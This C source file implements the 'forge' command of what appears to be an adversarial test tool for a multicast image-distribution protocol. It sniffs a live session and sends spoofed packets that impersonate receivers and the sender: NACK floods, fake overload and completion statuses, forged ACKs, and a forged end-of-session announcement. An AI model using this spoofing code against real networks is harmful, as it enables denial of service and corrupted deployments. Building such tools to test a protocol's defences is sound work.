/* forge: packets the live session's peers never sent, each from the address
 * and port of the peer it impersonates, built from what learn() sniffed:
 *   nack      NACK from each receiver: whole-chunk entries for every chunk
 *   stranger  NACK and OVERLOADED STATUS with an unknown receiver id
 *   overload  STATUS RECEIVING + OVERLOADED from each receiver
 *   done      STATUS DONE with the image digest (once sniffed) from each receiver
 *   baddone   STATUS DONE with a zero digest from each receiver, from the start
 *   ack       ACK of every state from the sender to each receiver
 *   ended     the sender's last ANNOUNCE with phase ENDED, to the group
 * In a sealed session every forgery carries the SEALED flag and a random
 * trailer, so that it reaches the tag check. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "attacker.h"
#include "learn.h"
#include "net.h"
#include "wire.h"

enum { K_NACK, K_STRANGER, K_OVERLOAD, K_DONE, K_BAD_DONE, K_ACK, K_ENDED, K_COUNT };
static const char *const KIND_NAMES[K_COUNT] = {"nack", "stranger", "overload", "done", "baddone", "ack", "ended"};
enum { TRAILER = 24 };

struct forger {
  int out;
  const struct session_view *v;
  uint32_t cursor; /* next chunk for whole-chunk NACK entries */
  uint32_t stranger_rid;
  uint64_t sent[K_COUNT], errors;
};

static void header(uint8_t *b, uint8_t type, const struct session_view *v) {
  memcpy(b, "BCK1", 4);
  b[OFF_VERSION] = VERSION;
  b[OFF_TYPE] = type;
  wr16(b + OFF_FLAGS, 0);
  wr32(b + OFF_SESSION, v->session);
}

static void emit(struct forger *f, int kind, struct udp_pkt *p) {
  if (f->v->flags & FLAG_SEALED) {
    wr16(p->data + OFF_FLAGS, rd16(p->data + OFF_FLAGS) | FLAG_SEALED);
    for (int i = 0; i < TRAILER; i++) p->data[p->len + (size_t)i] = (uint8_t)rand();
    p->len += TRAILER;
  }
  if (spoof_send(f->out, p) == 0) f->sent[kind]++;
  else f->errors++;
}

/* From a receiver (or a stranger at a receiver's address) to the sender's control port. */
static void to_sender(struct udp_pkt *p, const struct session_view *v, const struct peer *from) {
  p->src = from->addr;
  p->sport = from->port;
  p->dst = v->sender;
  p->dport = v->ctl_port;
  p->ttl = 64;
}

static void nack(struct forger *f, int kind, const struct peer *from, uint32_t rid) {
  static struct udp_pkt p;
  const struct session_view *v = f->v;
  to_sender(&p, v, from);
  uint8_t *b = p.data;
  header(b, T_NACK, v);
  wr32(b + N_RID, rid);
  wr16(b + 18, 0);
  size_t n = 0, max = (N_MAX_LEN - N_ENTRIES) / 8;
  /* The whole manifest, then as many image chunks as fit, round-robin. */
  uint8_t *e = b + N_ENTRIES;
  e[0] = 1, e[1] = NK_WHOLE_CHUNK, wr16(e + 2, 0), wr32(e + 4, 0);
  n++;
  for (; n < max && v->chunks > 0; n++) {
    e = b + N_ENTRIES + 8 * n;
    e[0] = 0, e[1] = NK_WHOLE_CHUNK, wr16(e + 2, 0), wr32(e + 4, f->cursor);
    f->cursor = (f->cursor + 1) % v->chunks;
  }
  wr16(b + N_COUNT, (uint16_t)n);
  p.len = N_ENTRIES + 8 * n;
  emit(f, kind, &p);
}

static void status(struct forger *f, int kind, const struct peer *from, uint32_t rid, uint8_t state, uint8_t flags) {
  static struct udp_pkt p;
  const struct session_view *v = f->v;
  to_sender(&p, v, from);
  uint8_t *b = p.data;
  memset(b, 0, S_DONE_LEN);
  header(b, T_STATUS, v);
  wr32(b + S_RID, rid);
  b[S_STATE] = state;
  b[S_FLAGS] = flags;
  wr32(b + S_WRITTEN, state == ST_DONE ? v->chunks : 0);
  wr64(b + S_CAPACITY, 1ull << 40);
  memcpy(b + S_NONCE, from->nonce, 16);
  p.len = S_LEN;
  if (state == ST_DONE) {
    if (kind == K_DONE) memcpy(b + S_DIGEST, v->digest, 32);
    p.len = S_DONE_LEN;
  }
  emit(f, kind, &p);
}

static void ack(struct forger *f, const struct peer *to, uint8_t state) {
  static struct udp_pkt p;
  const struct session_view *v = f->v;
  p.src = v->sender;
  p.sport = v->ctl_port;
  p.dst = to->addr;
  p.dport = to->port;
  p.ttl = 64;
  uint8_t *b = p.data;
  memset(b, 0, K_LEN);
  header(b, T_ACK, v);
  wr32(b + K_RID, to->rid);
  b[K_STATE] = state;
  memcpy(b + K_NONCE, to->nonce, 16);
  p.len = K_LEN;
  emit(f, K_ACK, &p);
}

static void ended(struct forger *f) {
  static struct udp_pkt p;
  const struct session_view *v = f->v;
  p.src = v->sender;
  p.sport = v->sender_sport;
  p.dst = v->group;
  p.dport = v->group_port;
  p.ttl = v->ttl;
  /* The sender's own ANNOUNCE, phase changed: signature and trailer (if any) dropped. */
  memcpy(p.data, v->announce, A_LEN);
  p.data[A_PHASE] = PHASE_ENDED;
  wr16(p.data + OFF_FLAGS, 0);
  p.len = A_LEN;
  emit(f, K_ENDED, &p);
}

static int parse_kinds(const char *list, int *on) {
  char buf[256];
  snprintf(buf, sizeof buf, "%s", list);
  for (char *save = NULL, *t = strtok_r(buf, ",", &save); t; t = strtok_r(NULL, ",", &save)) {
    int k = 0;
    while (k < K_COUNT && strcmp(t, KIND_NAMES[k]) != 0) k++;
    if (k == K_COUNT) {
      fprintf(stderr, "unknown forgery kind: %s\n", t);
      return -1;
    }
    on[k] = 1;
  }
  return 0;
}

static void round_of_forgeries(struct forger *f, const int *on) {
  const struct session_view *v = f->v;
  for (int i = 0; i < v->npeers; i++) {
    const struct peer *r = &v->peers[i];
    if (on[K_NACK]) nack(f, K_NACK, r, r->rid);
    if (on[K_OVERLOAD]) status(f, K_OVERLOAD, r, r->rid, ST_RECEIVING, STATUS_OVERLOADED);
    if (on[K_DONE] && v->have_digest) status(f, K_DONE, r, r->rid, ST_DONE, 0);
    if (on[K_BAD_DONE]) status(f, K_BAD_DONE, r, r->rid, ST_DONE, 0);
    if (on[K_STRANGER]) {
      nack(f, K_STRANGER, r, f->stranger_rid);
      status(f, K_STRANGER, r, f->stranger_rid, ST_RECEIVING, STATUS_OVERLOADED);
    }
    if (on[K_ACK]) {
      for (uint8_t s = ST_JOINED; s <= ST_FAILED; s++) ack(f, r, s);
    }
  }
  if (on[K_ENDED]) ended(f);
}

int cmd_forge(const struct opts *o) {
  int on[K_COUNT] = {0};
  if (parse_kinds(o->kinds, on) < 0) return 2;
  int in = sniff_open(o->iface);
  static struct session_view v;
  static struct udp_pkt p;
  struct forger f;
  memset(&f, 0, sizeof f);
  f.out = spoof_open(o->addr);
  f.v = &v;
  f.stranger_rid = 0x5a5a0000u | (uint32_t)(rand() & 0xffff);
  uint64_t rounds = 0, interval = (uint64_t)o->interval_ms * 1000, next = 0;
  uint64_t end = o->duration_s > 0 ? now_us() + (uint64_t)(o->duration_s * 1e6) : 0;
  fprintf(stderr, "ready\n");
  while (!stop_requested && (end == 0 || now_us() < end)) {
    int r = sniff_next(in, &p);
    if (r < 0) break;
    if (r == 1) learn(&v, &p);
    uint64_t now = now_us();
    if (v.have_announce && now >= next) {
      round_of_forgeries(&f, on);
      rounds++;
      next = now + interval;
    }
  }
  printf("{\"tool\":\"forge\",\"session\":%u,\"receivers\":%d,\"digest\":%s,\"rounds\":%llu,\"errors\":%llu", v.session,
         v.npeers, v.have_digest ? "true" : "false", (unsigned long long)rounds, (unsigned long long)f.errors);
  for (int k = 0; k < K_COUNT; k++) printf(",\"%s\":%llu", KIND_NAMES[k], (unsigned long long)f.sent[k]);
  printf("}\n");
  return 0;
}
